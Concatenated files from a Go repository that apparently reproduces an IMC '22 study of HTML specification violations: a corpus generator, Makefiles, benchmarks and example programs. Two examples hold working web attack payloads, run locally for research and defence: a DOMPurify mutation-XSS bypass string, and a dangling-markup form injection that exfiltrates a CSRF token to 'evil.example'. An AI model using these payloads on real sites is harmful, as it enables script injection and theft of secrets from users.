			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	universe := g.Universe()
	for _, snap := range corpus.Snapshots {
		if err := generateSnapshot(g, out, snap, universe, segSize); err != nil {
			return err
		}
		fmt.Printf("wrote %s\n", snap.ID)
	}
	return nil
}

// segmentWriter rotates WARC segment files as they fill.
type segmentWriter struct {
	dir     string
	crawl   string
	maxSize int64
	seq     int
	file    *os.File
	w       *warc.Writer
}

func (s *segmentWriter) current() (string, *warc.Writer, error) {
	if s.w != nil && s.w.Offset() < s.maxSize {
		return s.name(), s.w, nil
	}
	if err := s.closeCurrent(); err != nil {
		return "", nil, err
	}
	s.seq++
	f, err := os.Create(filepath.Join(s.dir, fmt.Sprintf("segment-%04d.warc.gz", s.seq)))
	if err != nil {
		return "", nil, err
	}
	s.file = f
	s.w = warc.NewWriter(f)
	date := time.Now().UTC()
	if snap, ok := corpus.SnapshotByID(s.crawl); ok {
		date = snap.Date
	}
	info := warc.NewWarcinfo(s.name(), date, map[string]string{
		"software":  "hvgen (github.com/hvscan/hvscan)",
		"format":    "WARC File Format 1.0",
		"isPartOf":  s.crawl,
		"generator": "synthetic corpus; see DESIGN.md",
	})
	if _, _, err := s.w.Write(info); err != nil {
		return "", nil, err
	}
	return s.name(), s.w, nil
}

func (s *segmentWriter) name() string {
	return fmt.Sprintf("%s/segment-%04d.warc.gz", s.crawl, s.seq)
}

func (s *segmentWriter) closeCurrent() error {
	if s.file == nil {
		return nil
	}
	err := s.file.Close()
	s.file = nil
	s.w = nil
	return err
}

func generateSnapshot(g *corpus.Generator, out string, snap corpus.Snapshot, universe []string, segSize int64) error {
	dir := filepath.Join(out, snap.ID)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	seg := &segmentWriter{dir: dir, crawl: snap.ID, maxSize: segSize}
	defer seg.closeCurrent()
	index := &cdx.Index{}
	for _, domain := range universe {
		n := g.PageCount(domain, snap)
		for i := 0; i < n; i++ {
			status, ctype, body := g.PageHTTP(domain, snap, i)
			url := g.PageURL(domain, i)
			name, w, err := seg.current()
			if err != nil {
				return err
			}
			rec := warc.NewResponse(url, snap.Date, warc.BuildHTTPResponse(status, ctype, body))
			// Common Crawl stores the request alongside each response; the
			// CDX index points only at the response record.
			req := warc.NewRequest(url, snap.Date, warc.BuildHTTPRequest(url),
				rec.Headers.Get(warc.HeaderRecordID))
			if _, _, err := w.Write(req); err != nil {
				return err
			}
			off, length, err := w.Write(rec)
			if err != nil {
				return err
			}
			index.Add(&cdx.Record{
				SURT:      cdx.SURT(url),
				Timestamp: cdx.Timestamp(snap.Date),
				URL:       url,
				MIME:      mimeOf(ctype),
				Status:    status,
				Length:    length,
				Offset:    off,
				Filename:  name,
			})
		}
	}
	if err := seg.closeCurrent(); err != nil {
		return err
	}
	f, err := os.Create(filepath.Join(dir, "index.cdxj"))
	if err != nil {
		return err
	}
	if _, err := index.WriteTo(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func mimeOf(contentType string) string {
	for i := 0; i < len(contentType); i++ {
		if contentType[i] == ';' {
			return contentType[:i]
		}
	}
	return contentType
}
