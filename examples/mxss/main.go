// Mutation XSS: reproduces the paper's Figure 1 — the DOMPurify < 2.1
// bypass — end to end through this repository's own parser and sanitizer.
// The harmless-looking payload survives sanitization because the alert
// sits inside a title attribute; re-parsing the sanitizer's output (what
// the browser does with innerHTML) mutates it into a live <img onerror>.
//
//	go run ./examples/mxss
package main

import (
	"fmt"
	"log"

	"github.com/hvscan/hvscan/internal/htmlparse"
	"github.com/hvscan/hvscan/internal/sanitizer"
)

const payload = `<math><mtext><table><mglyph><style><!--</style>` +
	`<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`

func main() {
	fmt.Println("attacker input (Figure 1a):")
	fmt.Println(" ", payload)

	s := sanitizer.New(nil) // DOMPurify<2.1-style allowlist (math allowed)
	clean, err := s.Sanitize(payload)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nsanitizer output — in the sanitizer's parse the alert sits inertly")
	fmt.Println("inside a title attribute, and every on* handler was stripped (Figure 1b):")
	fmt.Println(" ", clean)

	// The browser inserts the sanitized string into the document and
	// parses it AGAIN. Now mglyph sits directly under mtext, the whole
	// chain stays in the MathML namespace, <style> is no longer raw text,
	// the <!-- opens a real comment that eats up to the --> inside the
	// title attribute — and the payload img materializes.
	res, err := htmlparse.ParseFragment([]byte(clean), "div")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nbrowser re-parse (parse #2):")
	fmt.Println(" ", htmlparse.RenderString(res.Doc))
	if img := armed(clean); img != nil {
		onerror, _ := img.LookupAttr("onerror")
		fmt.Printf("\n=> mutation XSS: <img src=1 onerror=%s> is live in the %s namespace.\n",
			onerror, img.Namespace)
	}

	// The fix direction DOMPurify took: stop trusting the MathML tags.
	hardened := sanitizer.DefaultPolicy()
	delete(hardened.AllowedTags, "math")
	delete(hardened.AllowedTags, "mtext")
	delete(hardened.AllowedTags, "mglyph")
	delete(hardened.AllowedTags, "style")
	clean2, err := sanitizer.New(hardened).Sanitize(payload)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nhardened policy output:")
	fmt.Println(" ", clean2)
	fmt.Println("  armed after re-parse:", armed(clean2) != nil)
}

// armed reports whether re-parsing html yields an element with an onerror
// handler (the attack succeeding).
func armed(html string) *htmlparse.Node {
	res, err := htmlparse.ParseFragment([]byte(html), "div")
	if err != nil {
		return nil
	}
	return res.Doc.Find(func(n *htmlparse.Node) bool {
		if n.Type != htmlparse.ElementNode {
			return false
		}
		_, ok := n.LookupAttr("onerror")
		return ok
	})
}
