// STRICT-PARSER: serves a small site behind the paper's proposed parser
// hardening (§5.3.2) and exercises all three modes plus monitor reporting
// against it with a plain HTTP client.
//
//	go run ./examples/strictheader
package main

import (
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"

	"github.com/hvscan/hvscan/internal/strictparser"
)

const brokenPage = `<!DOCTYPE html><html><head><title>Legacy</title></head>
<body><form action="/go"><input type="submit"><textarea name="x">
dangling…`

const cleanPage = `<!DOCTYPE html><html><head><title>Fine</title></head>
<body><p>All good.</p></body></html>`

func page(body, policy string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if policy != "" {
			w.Header().Set(strictparser.HeaderName, policy)
		}
		_, _ = io.WriteString(w, body)
	}
}

func main() {
	// A monitor endpoint, as a developer would deploy to trial the policy.
	monitor := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		fmt.Printf("  [monitor] received report: %s\n", body)
	}))
	defer monitor.Close()

	mux := http.NewServeMux()
	mux.HandleFunc("/legacy-default", page(brokenPage, ""))
	mux.HandleFunc("/legacy-strict", page(brokenPage, "strict"))
	mux.HandleFunc("/legacy-unsafe", page(brokenPage, "unsafe; monitor="+monitor.URL))
	mux.HandleFunc("/clean", page(cleanPage, "strict"))

	mw := strictparser.NewMiddleware(mux, nil)
	site := httptest.NewServer(mw)
	defer site.Close()

	for _, path := range []string{"/clean", "/legacy-strict", "/legacy-default", "/legacy-unsafe"} {
		resp, err := http.Get(site.URL + path)
		if err != nil {
			log.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		fmt.Printf("GET %-16s -> %d\n", path, resp.StatusCode)
		if resp.StatusCode != http.StatusOK {
			fmt.Printf("  blocked page excerpt: %.80s…\n", body)
		}
	}
	mw.Reporter().Flush()

	fmt.Println("\nsummary:")
	fmt.Println("  /clean          strict mode, no violations  -> renders")
	fmt.Println("  /legacy-strict  strict mode, DE1 violation   -> blocked (opt-in hardening)")
	fmt.Println("  /legacy-default no header; DE1 is in the staged deprecation list -> blocked")
	fmt.Println("  /legacy-unsafe  unsafe mode                  -> renders, but the monitor got a report")
}
