// Quickstart: check a document for security-relevant HTML specification
// violations with the core checker, print each finding, and show the
// automatic repair.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/core"
)

// page is a small document exhibiting several of the paper's violations:
// a duplicated attribute (DM3), attributes glued together (FB2),
// slash-separated attributes (FB1) and a meta refresh in the body (DM1).
const page = `<!DOCTYPE html>
<html lang="en">
<head><title>Quickstart</title></head>
<body>
<h1 class="title" class="headline">Welcome</h1>
<img src="/logo.png"alt="logo">
<a href="/about"/title="About">About us</a>
<meta http-equiv="refresh" content="30">
<p>Nothing else to see.</p>
</body>
</html>`

func main() {
	checker := core.NewChecker()
	rep, err := checker.Check([]byte(page))
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("violations found: %d (rules: %v)\n\n", len(rep.Findings), rep.ViolatedIDs())
	for _, f := range rep.Findings {
		rule, _ := core.RuleByID(f.RuleID)
		fmt.Printf("  line %d col %d: %s — %s\n", f.Pos.Line, f.Pos.Col, f.RuleID, rule.Name)
		if f.Evidence != "" {
			fmt.Printf("      evidence: %s\n", f.Evidence)
		}
	}

	if rep.OnlyAutoFixable() {
		fmt.Println("\nevery violation on this page is automatically fixable (paper §4.4):")
		fixed, err := autofix.Repair([]byte(page))
		if err != nil {
			log.Fatal(err)
		}
		for _, fx := range fixed.Applied {
			fmt.Printf("  applied: %s\n", fx)
		}
		rep2, err := checker.Check(fixed.Output)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("violations after repair: %d\n", len(rep2.Findings))
	}
}
