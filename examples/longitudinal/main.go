// Longitudinal: a miniature end-to-end run of the paper's study — dataset
// derivation from Tranco-style lists, an eight-snapshot crawl over the
// (synthetic) Common Crawl served over real HTTP, and the headline
// Figure 9 trend printed with the paper's numbers alongside.
//
//	go run ./examples/longitudinal
package main

import (
	"context"
	"fmt"
	"log"
	"net/http/httptest"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/crawler"
	"github.com/hvscan/hvscan/internal/report"
	"github.com/hvscan/hvscan/internal/store"
	"github.com/hvscan/hvscan/internal/tranco"
)

func main() {
	// 1. The archive: a deterministic synthetic Common Crawl, served over
	// HTTP exactly like index.commoncrawl.org + the S3 bucket.
	g := corpus.New(corpus.Config{Seed: 22, Domains: 600, MaxPages: 6})
	server := httptest.NewServer(commoncrawl.NewServer(commoncrawl.NewSynthetic(g)))
	defer server.Close()
	archive := commoncrawl.NewClient(server.URL)

	// 2. Dataset derivation (§4.1): intersect the top of several lists,
	// order by average rank.
	stable := tranco.IntersectTop(g.TrancoLists(4), 600)
	dataset := make([]string, len(stable))
	for i, e := range stable {
		dataset[i] = e.Domain
	}
	fmt.Printf("dataset: %d domains (avg rank %.0f)\n", len(dataset), tranco.AverageRank(stable))

	// 3. The crawl: collect -> fetch -> check -> store, per snapshot.
	st := store.New()
	pipe := crawler.New(archive, core.NewChecker(), st, crawler.Config{PagesPerDomain: 6})
	var stats []store.CrawlStats
	for _, crawl := range archive.Crawls() {
		s, err := pipe.RunSnapshot(context.Background(), crawl, dataset)
		if err != nil {
			log.Fatal(err)
		}
		stats = append(stats, s)
		fmt.Printf("  %s: %d domains, %d pages analyzed\n", crawl, s.Analyzed, s.PagesAnalyzed)
	}

	// 4. The analysis: the paper's headline figure.
	a := analysis.New(st)
	fmt.Println()
	fmt.Print(report.Figure9(a))
	fmt.Println()
	fmt.Print(report.Section44(a))
}
