// Dangling markup: demonstrates the data-exfiltration violations of the
// paper (§2.2, §3.2) on a concrete page. An attacker who can inject
// markup — but not scripts — plants a non-terminated textarea inside a
// form pointing at their server; the error-tolerant parser swallows the
// page's secret content into the textarea, and submitting the form leaks
// it. The example then shows the two deployed mitigations' detection
// surface (§4.5).
//
//	go run ./examples/danglingmarkup
package main

import (
	"fmt"
	"log"
	"strings"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// The victim page renders user-supplied content (the INJECTION marker)
// above a secret the attacker wants (a CSRF token).
const victimTemplate = `<!DOCTYPE html>
<html><head><title>Transfer money</title></head>
<body>
<h1>Hello Alice</h1>
<div class="comments">%INJECTION%</div>
<form action="/transfer" method="post">
<input type="hidden" name="csrf_token" value="tok_5f3759df_secret">
<input type="text" name="amount">
<input type="submit" value="Send">
</form>
</body></html>`

// The classic Figure 3 injection: form + submit + unterminated textarea.
const injection = `<form action="https://evil.example/collect" method="post">` +
	`<input type="submit" value="Click for a surprise"><textarea name="stolen">`

func main() {
	page := strings.Replace(victimTemplate, "%INJECTION%", injection, 1)

	res, err := htmlparse.Parse([]byte(page))
	if err != nil {
		log.Fatal(err)
	}

	// What does the browser's DOM look like now? Find the attacker's
	// textarea and see what it swallowed.
	ta := res.Doc.Find(func(n *htmlparse.Node) bool { return n.IsElement("textarea") })
	fmt.Println("attacker textarea content after error-tolerant parsing:")
	fmt.Println("----------------------------------------------------------")
	fmt.Println(strings.TrimSpace(ta.Text()))
	fmt.Println("----------------------------------------------------------")
	if strings.Contains(ta.Text(), "tok_5f3759df_secret") {
		fmt.Println("=> the CSRF token is inside the attacker's form. Submitting")
		fmt.Println("   sends it to https://evil.example/collect — no JavaScript needed.")
	}

	// The measurement view: which catalogue rules fire on this page?
	rep, err := core.NewChecker().Check([]byte(page))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nviolation rules fired: %v\n", rep.ViolatedIDs())

	// The deployed mitigations the paper evaluates in §4.5 match on
	// different, narrower signals:
	fmt.Println("\nmitigation overlap (paper §4.5):")
	fmt.Printf("  Chromium newline+'<' URL block would trigger: %v\n", rep.Signals.NewlineAndLtInURL)
	fmt.Printf("  nonce-stealing '<script' in attribute:        %v\n", rep.Signals.ScriptInAttribute)
	fmt.Println("  => neither mitigation covers the textarea variant; only the")
	fmt.Println("     parser-level deprecation (DE1 in the STRICT-PARSER staged")
	fmt.Println("     list) blocks it at the root.")
}
