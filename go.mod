module github.com/hvscan/hvscan

go 1.22

toolchain go1.24.0
