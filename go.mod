module github.com/hvscan/hvscan

go 1.22
