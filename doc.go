// Package hvscan is a from-scratch Go reproduction of "HTML Violations and
// Where to Find Them: A Longitudinal Analysis of Specification Violations
// in HTML" (Hantke & Stock, IMC '22).
//
// The implementation lives under internal/ (see DESIGN.md for the system
// inventory); the runnable tools under cmd/ and examples/. This root
// package exists to anchor the module documentation and the benchmark
// harness (bench_test.go), which regenerates every table and figure of the
// paper's evaluation.
package hvscan
