# hvscan — reproduction of "HTML Violations and Where to Find Them" (IMC '22)

GO ?= go

.PHONY: all build test vet lint bench bench-json bench-gate ci chaos serve-chaos fmt-check study report fuzz clean conform conform-update fix-conform fix-conform-update fuzz-smoke

all: build test

# Mirrors .github/workflows/ci.yml so the tier-1 gate is reproducible
# locally: build, vet, lint, formatting, race-enabled tests, chaos
# smoke, fuzz smokes.
ci: build vet lint fmt-check
	$(GO) test -race ./...
	$(MAKE) chaos
	$(MAKE) serve-chaos
	$(MAKE) conform
	$(MAKE) fix-conform
	$(GO) test -run '^$$' -fuzz='^FuzzParse$$' -fuzztime=15s ./internal/htmlparse
	$(GO) test -run '^$$' -fuzz='^FuzzClassify$$' -fuzztime=10s ./internal/resilience
	$(GO) test -run '^$$' -fuzz='^FuzzReadJournal$$' -fuzztime=10s ./internal/store
	$(MAKE) fuzz-smoke
	$(MAKE) bench-gate

# Conformance gate: run the checked-in html5lib-style corpus (tree
# construction + tokenizer) through hvconform. Fails on any fixture
# divergence, on an emitted ErrorCode with no provoking fixture, on a
# stale skiplist entry, or if the corpus shrinks below 300 cases.
conform:
	$(GO) run ./cmd/hvconform

# Regenerate goldens after an intentional parser change, then rerun the
# gate. Review the fixture diff before committing — every hunk is a
# behavior change.
conform-update:
	$(GO) run ./cmd/hvconform -update
	$(GO) run ./cmd/hvconform

# Repair verification gate: the golden fix corpus (every strategy
# covered, each case's output re-parsed and re-checked, ≥60 cases), the
# two repair invariants (fix-idempotence, fix-monotonicity) over their
# seed corpora, and the 356-case repaired-corpus differential.
fix-conform:
	$(GO) run ./cmd/hvfix -corpus internal/autofix/testdata -min 60
	$(GO) test -count=1 -run 'TestFix|TestRepairedCorpusDifferential' ./internal/conformance

# Regenerate the fix goldens after an intentional engine change, then
# rerun the gate. Review the diff — every hunk is a behavior change.
fix-conform-update:
	$(GO) run ./cmd/hvfix -corpus internal/autofix/testdata -update
	$(MAKE) fix-conform

# Metamorphic fuzz smoke: 30s per oracle-free invariant (render→reparse
# fixpoint, truncation stability, attribute-order invariance, decoder
# agreement, stream≡tree checker equivalence) over the checked-in seed
# corpora.
fuzz-smoke:
	$(GO) test -run '^$$' -fuzz='^FuzzRenderParseFixpoint$$' -fuzztime=30s ./internal/conformance
	$(GO) test -run '^$$' -fuzz='^FuzzTruncationStability$$' -fuzztime=30s ./internal/conformance
	$(GO) test -run '^$$' -fuzz='^FuzzAttrReorderInvariance$$' -fuzztime=30s ./internal/conformance
	$(GO) test -run '^$$' -fuzz='^FuzzDecoderAgreement$$' -fuzztime=30s ./internal/conformance
	$(GO) test -run '^$$' -fuzz='^FuzzStreamTreeAgreement$$' -fuzztime=30s ./internal/conformance
	$(GO) test -run '^$$' -fuzz='^FuzzFixIdempotence$$' -fuzztime=30s ./internal/conformance
	$(GO) test -run '^$$' -fuzz='^FuzzFixMonotonicity$$' -fuzztime=30s ./internal/conformance

# Chaos smoke: the seeded fault-injection acceptance tests (~10%
# transient faults, deterministic schedule) under the race detector —
# budget compliance, crash-and-resume equivalence, breaker behavior.
chaos:
	$(GO) test -race -count=1 -run 'TestChaos|TestResume|TestBreaker' ./internal/crawler ./internal/commoncrawl

# Serving-layer chaos: the hvserve acceptance suite (overload bursts,
# slowloris bodies, mid-request disconnects, hostile nesting, graceful
# drain, goroutine/heap leak sweep) plus the tiered cache's
# cancellation edge cases, all under the race detector.
serve-chaos:
	$(GO) test -race -count=1 -run 'TestServeChaos|TestTiered.*Cancel' ./internal/serve ./internal/commoncrawl

fmt-check:
	@out="$$(gofmt -l .)"; if [ -n "$$out" ]; then \
		echo "files need gofmt:" >&2; echo "$$out" >&2; exit 1; fi

build:
	$(GO) build ./...

test:
	$(GO) test ./...

vet:
	$(GO) vet ./...

# hvlint: the repo's own analyzers (internal/lint) — parser coverage,
# error classification, cancellable sleeps, metric naming, rule purity,
# zero-copy view lifetimes, hot-path allocation freedom, and goroutine
# hygiene. Runs over every library and command package explicitly.
# Suppress a finding with `//lint:ignore <analyzer> <reason>`.
lint:
	$(GO) run ./cmd/hvlint ./internal/... ./cmd/...

# Regenerates every table/figure as benchmark metrics (paper values inline).
bench:
	$(GO) test -bench=. -benchmem ./...

# Machine-readable benchmark run for the perf trajectory across PRs: the
# parser, streaming-checker, and archive-cache benchmarks folded into the
# stable internal/perf schema (min of 5 runs per benchmark, git SHA +
# date stamped inside the payload), one BENCH_<yyyymmdd>.json per day.
bench-json:
	$(GO) run ./cmd/hvbench -record

# Benchmark regression gate: re-run the tracked benchmarks and fail if
# any of them regresses more than 10% ns/op against the checked-in
# BENCH_baseline.json (or vanishes from the run). Refresh the baseline
# after an intentional perf change with:
#   go run ./cmd/hvbench -record -out BENCH_baseline.json
bench-gate:
	$(GO) run ./cmd/hvbench

# The full eight-snapshot study at laptop scale, then the report.
study:
	$(GO) run ./cmd/hvcrawl -domains 2400 -pages 10 -out results.jsonl -stats stats.json

report: 
	$(GO) run ./cmd/hvreport -store results.jsonl -stats stats.json -experiment all

# Continuous fuzzing entry points (Ctrl-C to stop).
fuzz:
	$(GO) test -fuzz FuzzParse -fuzztime 60s ./internal/htmlparse

fuzz-resilience:
	$(GO) test -fuzz FuzzClassify -fuzztime 60s ./internal/resilience

fuzz-journal:
	$(GO) test -fuzz FuzzReadJournal -fuzztime 60s ./internal/store

clean:
	rm -f results.jsonl stats.json
	rm -rf archive
