# hvscan — reproduction of "HTML Violations and Where to Find Them" (IMC '22)

GO ?= go

.PHONY: all build test vet bench study report fuzz clean

all: build test

build:
	$(GO) build ./...

test:
	$(GO) test ./...

vet:
	$(GO) vet ./...

# Regenerates every table/figure as benchmark metrics (paper values inline).
bench:
	$(GO) test -bench=. -benchmem ./...

# The full eight-snapshot study at laptop scale, then the report.
study:
	$(GO) run ./cmd/hvcrawl -domains 2400 -pages 10 -out results.jsonl -stats stats.json

report: 
	$(GO) run ./cmd/hvreport -store results.jsonl -stats stats.json -experiment all

# Continuous fuzzing entry points (Ctrl-C to stop).
fuzz:
	$(GO) test -fuzz FuzzParse -fuzztime 60s ./internal/htmlparse

clean:
	rm -f results.jsonl stats.json
	rm -rf archive
