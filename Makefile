# hvscan — reproduction of "HTML Violations and Where to Find Them" (IMC '22)

GO ?= go

.PHONY: all build test vet bench bench-json ci fmt-check study report fuzz clean

all: build test

# Mirrors .github/workflows/ci.yml so the tier-1 gate is reproducible
# locally: build, vet, formatting, race-enabled tests, fuzz smoke.
ci: build vet fmt-check
	$(GO) test -race ./...
	$(GO) test -run '^$$' -fuzz='^FuzzParse$$' -fuzztime=15s ./internal/htmlparse

fmt-check:
	@out="$$(gofmt -l .)"; if [ -n "$$out" ]; then \
		echo "files need gofmt:" >&2; echo "$$out" >&2; exit 1; fi

build:
	$(GO) build ./...

test:
	$(GO) test ./...

vet:
	$(GO) vet ./...

# Regenerates every table/figure as benchmark metrics (paper values inline).
bench:
	$(GO) test -bench=. -benchmem ./...

# Machine-readable benchmark run for the perf trajectory across PRs:
# test2json event stream, one file per day.
bench-json:
	$(GO) test -json -bench=. -benchmem -run '^$$' . > BENCH_$$(date +%Y%m%d).json
	@echo "wrote BENCH_$$(date +%Y%m%d).json"

# The full eight-snapshot study at laptop scale, then the report.
study:
	$(GO) run ./cmd/hvcrawl -domains 2400 -pages 10 -out results.jsonl -stats stats.json

report: 
	$(GO) run ./cmd/hvreport -store results.jsonl -stats stats.json -experiment all

# Continuous fuzzing entry points (Ctrl-C to stop).
fuzz:
	$(GO) test -fuzz FuzzParse -fuzztime 60s ./internal/htmlparse

clean:
	rm -f results.jsonl stats.json
	rm -rf archive
