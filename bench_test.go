package hvscan_test

// The benchmark harness: one benchmark per table and figure of the paper
// (see DESIGN.md §5 for the experiment index), plus ablations of the
// design choices called out there. Each experiment benchmark reports the
// headline measured percentages as custom metrics next to the paper's
// value, so `go test -bench .` doubles as the reproduction run:
//
//	pct2015   measured percentage in the first snapshot
//	paper2015 the paper's published value
//
// The shared fixture runs the full measurement pipeline once over the
// synthetic eight-snapshot archive.

import (
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/crawler"
	"github.com/hvscan/hvscan/internal/htmlparse"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/prestudy"
	"github.com/hvscan/hvscan/internal/report"
	"github.com/hvscan/hvscan/internal/sanitizer"
	"github.com/hvscan/hvscan/internal/store"
)

type fixtureData struct {
	archive *commoncrawl.SyntheticArchive
	store   *store.Store
	stats   []store.CrawlStats
	an      *analysis.Analyzer
	err     error
}

var (
	fixtureOnce sync.Once
	fx          fixtureData
)

// fixture lazily runs the eight-snapshot study at benchmark scale.
func fixture(b *testing.B) *fixtureData {
	b.Helper()
	fixtureOnce.Do(func() {
		g := corpus.New(corpus.Config{Seed: 22, Domains: 800, MaxPages: 5})
		fx.archive = commoncrawl.NewSynthetic(g)
		fx.store = store.New()
		pipe := crawler.New(fx.archive, core.NewChecker(), fx.store, crawler.Config{PagesPerDomain: 5})
		for _, crawl := range fx.archive.Crawls() {
			s, err := pipe.RunSnapshot(context.Background(), crawl, g.Universe())
			if err != nil {
				fx.err = err
				return
			}
			fx.stats = append(fx.stats, s)
		}
		fx.an = analysis.New(fx.store)
	})
	if fx.err != nil {
		b.Fatal(fx.err)
	}
	return &fx
}

// samplePages returns a deterministic set of corpus pages for micro
// benchmarks.
func samplePages(n int) [][]byte {
	g := corpus.New(corpus.Config{Seed: 7, Domains: 64, MaxPages: 4})
	var pages [][]byte
	for _, d := range g.Universe() {
		for i := 0; i < 3 && len(pages) < n; i++ {
			pages = append(pages, g.PageHTML(d, corpus.Snapshots[3], i))
		}
		if len(pages) >= n {
			break
		}
	}
	return pages
}

// ---- Tables ----

func BenchmarkTable1Catalogue(b *testing.B) {
	var s string
	for i := 0; i < b.N; i++ {
		s = report.Table1()
	}
	if !strings.Contains(s, "FB2") {
		b.Fatal("catalogue incomplete")
	}
}

func BenchmarkTable2Snapshots(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var rows []analysis.Table2Row
	for i := 0; i < b.N; i++ {
		rows = analysis.Table2(f.stats)
	}
	b.ReportMetric(rows[0].SuccessPct, "succ2015_pct")
	b.ReportMetric(analysis.PaperTable2[0].SuccessPct, "paper_succ2015_pct")
	b.ReportMetric(rows[7].AvgPages/float64(5)*100, "avgpages2022_pctcap")
	b.ReportMetric(analysis.PaperTable2[7].AvgPages, "paper_avgpages2022_of100")
}

// ---- Figures ----

func BenchmarkFigure8Distribution(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var dist map[string]analysis.YearlyPoint
	for i := 0; i < b.N; i++ {
		_, dist = f.an.Distribution()
	}
	b.ReportMetric(dist["FB2"].Pct, "fb2_union_pct")
	b.ReportMetric(analysis.PaperFigure8["FB2"], "paper_fb2_union_pct")
	b.ReportMetric(dist["HF4"].Pct, "hf4_union_pct")
	b.ReportMetric(analysis.PaperFigure8["HF4"], "paper_hf4_union_pct")
}

func BenchmarkFigure9Trend(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var series []analysis.YearlyPoint
	for i := 0; i < b.N; i++ {
		series = f.an.YearlyViolating()
	}
	b.ReportMetric(series[0].Pct, "pct2015")
	b.ReportMetric(analysis.PaperFigure9[0], "paper2015")
	b.ReportMetric(series[7].Pct, "pct2022")
	b.ReportMetric(analysis.PaperFigure9[7], "paper2022")
}

func BenchmarkFigure10Groups(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var trends map[core.Group][]analysis.YearlyPoint
	for i := 0; i < b.N; i++ {
		trends = f.an.GroupTrends()
	}
	b.ReportMetric(trends[core.FilterBypass][0].Pct, "fb2015_pct")
	b.ReportMetric(analysis.PaperFigure10["FB"][0], "paper_fb2015_pct")
	b.ReportMetric(trends[core.HTMLFormatting][7].Pct, "hf2022_pct")
	b.ReportMetric(analysis.PaperFigure10["HF"][1], "paper_hf2022_pct")
}

// appendixBench benchmarks one of Figures 16–21 and reports the first
// listed rule's endpoints.
func appendixBench(b *testing.B, figure string) {
	b.Helper()
	f := fixture(b)
	var rules []string
	for _, af := range analysis.AppendixFigures {
		if af.Figure == figure {
			rules = af.Rules
		}
	}
	b.ResetTimer()
	var trends map[string][]analysis.YearlyPoint
	for i := 0; i < b.N; i++ {
		trends = f.an.RuleTrends(rules...)
	}
	lead := rules[0]
	b.ReportMetric(trends[lead][0].Pct, lead+"_2015_pct")
	b.ReportMetric(analysis.PaperRuleTrends[lead][0], "paper_"+lead+"_2015_pct")
	b.ReportMetric(trends[lead][7].Pct, lead+"_2022_pct")
	b.ReportMetric(analysis.PaperRuleTrends[lead][7], "paper_"+lead+"_2022_pct")
}

func BenchmarkFigure16FilterBypass(b *testing.B)     { appendixBench(b, "16") }
func BenchmarkFigure17Formatting1(b *testing.B)      { appendixBench(b, "17") }
func BenchmarkFigure18Formatting2(b *testing.B)      { appendixBench(b, "18") }
func BenchmarkFigure19DataManipulation(b *testing.B) { appendixBench(b, "19") }
func BenchmarkFigure20Exfiltration1(b *testing.B)    { appendixBench(b, "20") }
func BenchmarkFigure21Exfiltration2(b *testing.B)    { appendixBench(b, "21") }

// ---- In-text statistics ----

func BenchmarkSection42Union(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var u analysis.YearlyPoint
	for i := 0; i < b.N; i++ {
		u = f.an.UnionViolating()
	}
	b.ReportMetric(u.Pct, "union_pct")
	b.ReportMetric(analysis.PaperUnionViolatingPct, "paper_union_pct")
}

func BenchmarkSection44Fixability(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var fix analysis.Fixability
	for i := 0; i < b.N; i++ {
		fix = f.an.FixabilityFor(f.an.LatestCrawl())
	}
	b.ReportMetric(fix.FixableOfViolPct, "fixable_of_violating_pct")
	b.ReportMetric(analysis.PaperFixableOfViolatingPct, "paper_fixable_pct")
	b.ReportMetric(fix.RemainingPct, "remaining_pct")
	b.ReportMetric(analysis.PaperRemainingAfterFixPct, "paper_remaining_pct")
}

func BenchmarkSection45Mitigations(b *testing.B) {
	f := fixture(b)
	b.ResetTimer()
	var ms []analysis.MitigationStats
	for i := 0; i < b.N; i++ {
		ms = f.an.Mitigations()
	}
	b.ReportMetric(ms[0].NewlineURL.Pct, "newline_url_2015_pct")
	b.ReportMetric(analysis.PaperNewlineURL2015Pct, "paper_newline_url_2015_pct")
	b.ReportMetric(ms[7].NewlineLtURL.Pct, "newline_lt_2022_pct")
	b.ReportMetric(analysis.PaperNewlineLt2022Pct, "paper_newline_lt_2022_pct")
}

// ---- Figure 1 / background ----

// BenchmarkFigure1MutationXSS measures the full sanitize → re-parse chain
// of the DOMPurify bypass and asserts the mutation still arms.
func BenchmarkFigure1MutationXSS(b *testing.B) {
	payload := `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
	s := sanitizer.New(nil)
